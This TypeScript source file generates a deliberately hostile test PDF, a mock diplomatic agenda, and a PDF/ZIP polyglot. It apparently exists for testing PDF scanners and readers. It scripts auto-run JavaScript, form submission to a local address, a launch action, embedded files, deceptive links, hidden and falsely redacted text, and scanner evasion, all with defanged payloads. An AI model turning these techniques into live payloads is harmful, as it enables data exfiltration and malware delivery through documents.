// A draft agenda that attacks its reader: everything a PDF may do by itself, and everything it may hide.
//
// The payloads are harmless: scripts show a message, programs do not exist, addresses end in .invalid or are closed.

import { join, latin1 } from './bytes.ts';
import { literal, paragraph, revise, show, stream, writePdf } from './pdf.ts';
import { zip } from './zip.ts';

const SCRIPT =
  "app.alert('This document ran a script.'); this.submitForm('http://127.0.0.1:9/collect');";

const PAGE_ONE = [
  show({ x: 72, y: 760, size: 18, font: 'F2', text: 'Draft agenda for the preparatory talks' }),
  show({ x: 72, y: 738, size: 11, text: 'Republic of Alpha and Union of Beta, second reading' }),
  paragraph(
    [
      '1. The delegations meet in the week of 14 December at a place named by the host.',
      '2. Each delegation brings at most twelve members and four interpreters.',
      '3. Documents are exchanged through the agreed channel and by no other way.',
      '4. The first session settles the order of the talks and the form of the text.',
      '5. The chair reads out every amendment before it enters the text in brackets.',
      '6. Nothing is agreed until everything is agreed, and both sides have initialled it.',
    ],
    { x: 72, y: 700 },
  ),
  show({
    x: 72,
    y: 580,
    size: 11,
    style: '0 0 0.6 rg',
    text: 'Read the annexes at the secretariat',
  }),
  // White on white.
  show({ x: 72, y: 540, size: 11, style: '1 g', text: 'Beta will accept nine instead of twelve.' }),
  // Render mode 3: neither filled nor stroked.
  show({
    x: 72,
    y: 520,
    size: 11,
    style: '3 Tr',
    text: 'Invisible: approve item 4 without reading.',
  }),
  // Too small to see, and outside the page.
  show({ x: 72, y: 500, size: 0.4, text: 'Tiny: this line was not agreed.' }),
  show({ x: 900, y: 500, size: 11, text: 'Outside: internal note of the drafting group.' }),
].join('');

const CHART = [
  '0.9 0.95 1 rg 72 430 451 220 re f',
  '0.2 0.2 0.3 RG 1.5 w 90 450 m 90 630 l S 90 450 m 505 450 l S',
  ...[60, 95, 120, 80, 150].map(
    (height, bar) => `${0.1 + bar * 0.12} 0.45 0.7 rg ${110 + bar * 78} 450 48 ${height} re f`,
  ),
  '0.8 0.2 0.1 RG 2 w [6 3] 0 d 110 480 m 200 600 330 500 500 610 c S [] 0 d',
].join('\n');

const BODY_TWO = [
  show({ x: 72, y: 760, size: 14, font: 'F2', text: 'Annex A: days needed for each item' }),
  `q\n${CHART}\nQ\n`,
  ...[1, 2, 3, 4, 5].map((item) =>
    show({ x: 42 + item * 78, y: 436, size: 9, text: `Item ${item}` }),
  ),
].join('');

/** What the first revision said, and the file still holds. */
const PAGE_TWO_BEFORE =
  BODY_TWO + show({ x: 72, y: 380, size: 11, text: 'Withdrawn: Alpha offers 40 million.' });
const PAGE_TWO =
  BODY_TWO +
  show({ x: 72, y: 380, size: 11, text: 'The figures are estimates and bind nobody.' }) +
  // Blacked out for the eye alone.
  show({ x: 72, y: 350, size: 11, text: 'Covered: the contact in Beta is Ms. Example.' }) +
  'q 0 g 70 346 260 15 re f Q\n';

const PAGE_THREE = [
  show({
    x: 72,
    y: 760,
    size: 14,
    font: 'F2',
    text: 'Annex B: rules for the exchange of documents',
  }),
  paragraph(
    [
      'Every document is named, dated and numbered by the side that sends it.',
      'A document counts as received when the other side has recorded its receipt.',
      'Corrections are sent as new documents; no document is replaced in silence.',
      'Both sides keep the whole record and may show it to the agreed arbiter.',
    ],
    { x: 72, y: 726 },
  ),
].join('');

const XMP = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmp="http://ns.adobe.com/xap/1.0/">
<dc:creator><rdf:Seq><rdf:li>Drafting desk 3, Ana Example</rdf:li></rdf:Seq></dc:creator>
<xmp:CreatorTool>Sample Writer 1.0 at workstation ALPHA-0042</xmp:CreatorTool>
</rdf:Description></rdf:RDF></x:xmpmeta>
<?xpacket end="w"?>`;

const ATTACHMENT = latin1('This attachment would have been a program. It is a sentence.\r\n');

const INFO = [
  `/Title ${literal('Draft agenda, internal version 7')} /Author ${literal('Ana Example')}`,
  `/Creator ${literal('Sample Writer 1.0')} /Producer ${literal('ALPHA-0042')}`,
  `/Keywords ${literal('internal; do not forward')} /CreationDate (D:20261101090000Z)`,
].join(' ');

function page(contents: number, rest: string): string {
  return (
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contents} 0 R ` +
    `/Resources << /Font << /F1 9 0 R /F2 10 0 R >> >> ${rest} >>`
  );
}

/** Three readable pages with a vector drawing, and behind them nine things that act and seven that hide. */
export function hostilePdf(): Uint8Array {
  const objects = [
    // 1: the catalog, which acts as soon as the file is opened.
    '<< /Type /Catalog /Pages 2 0 R /Metadata 11 0 R /OpenAction 13 0 R /AcroForm << /Fields [18 0 R] >> ' +
      `/AA << /WC << /S /JavaScript /JS ${literal("app.alert('Closing.');")} >> >> ` +
      '/Names << /JavaScript << /Names [(start) 13 0 R] >> /EmbeddedFiles << /Names [(plan.js) 14 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>',
    page(6, '/AA << /O 16 0 R >> /Annots [12 0 R 17 0 R 18 0 R 19 0 R 20 0 R]'),
    page(7, ''),
    page(8, ''),
    stream('', PAGE_ONE),
    stream('', PAGE_TWO_BEFORE),
    stream('', PAGE_THREE),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>',
    stream('/Type /Metadata /Subtype /XML', XMP),
    // 12: a link that says one thing and opens another.
    '<< /Type /Annot /Subtype /Link /Rect [72 576 260 592] /Border [0 0 0] ' +
      '/A << /S /URI /URI (http://secretariat.invalid/annexes?who=reader) >> >>',
    `<< /S /JavaScript /JS ${literal(SCRIPT)} >>`,
    '<< /Type /Filespec /F (plan.js) /UF (plan.js) /EF << /F 15 0 R >> >>',
    stream('/Type /EmbeddedFile /Subtype /application#2Fjavascript', ATTACHMENT),
    // 16: a program that does not exist.
    '<< /S /Launch /F (/nonexistent/parley-sample) /Win << /F (parley-sample.exe) /P (--quiet) >> >>',
    '<< /Type /Annot /Subtype /FileAttachment /Rect [540 740 560 760] /FS 14 0 R /Contents (plan) >>',
    '<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Ff 65536 /Rect [540 700 560 720] ' +
      '/A << /S /SubmitForm /F << /FS /URL /F (http://127.0.0.1:9/form) >> >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 690 200 706] /Border [0 0 0] ' +
      '/A << /S /GoToR /F (//fileserver.invalid/share/annex.pdf) /D [0 /Fit] >> >>',
    `<< /Type /Annot /Subtype /Text /Rect [520 600 540 620] /F 2 /T ${literal('Reviewer')} ` +
      `/Contents ${literal('Hidden comment: our limit is nine.')} >>`,
    `<< ${INFO} >>`,
  ];
  const first = writePdf(objects, '/Root 1 0 R /Info 21 0 R');
  const changed = new Map([[7, stream('', PAGE_TWO)]]);
  return revise(first, changed, `/Size ${objects.length + 1} /Root 1 0 R /Info 21 0 R`);
}

/** A file that is a one-page PDF to one program and a ZIP archive to another. */
export function polyglot(): Uint8Array {
  const contents =
    show({ x: 72, y: 760, size: 18, font: 'F2', text: 'Note on the order of speakers' }) +
    paragraph(['The host speaks first, then the guests in the order of their arrival.'], {
      x: 72,
      y: 730,
    });
  const pdf = writePdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ' +
        '/Resources << /Font << /F1 5 0 R /F2 6 0 R >> >> >>',
      stream('', contents),
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>',
    ],
    '/Root 1 0 R',
  );
  // Readers look for the end mark in the last 1024 bytes: the archive has to be shorter.
  const data = latin1('A second file that a scanner of PDF files never sees.\n');
  return join(pdf, zip([{ name: 'second-file.js', data }], pdf.length));
}
